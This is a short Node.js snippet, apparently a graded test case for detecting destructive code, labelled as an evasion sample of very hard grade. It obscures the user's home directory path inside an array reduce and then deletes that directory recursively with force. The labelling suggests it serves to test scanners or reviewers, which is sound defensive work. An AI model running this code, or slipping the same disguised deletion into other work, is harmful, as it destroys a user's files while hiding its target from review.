// evasion: the home directory is reduce's initial value, passed through untouched by the reducer, then deleted
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const root = ["", ""].reduce((acc, part) => acc + part, os.homedir());
fs.rmSync(root, { recursive: true, force: true });
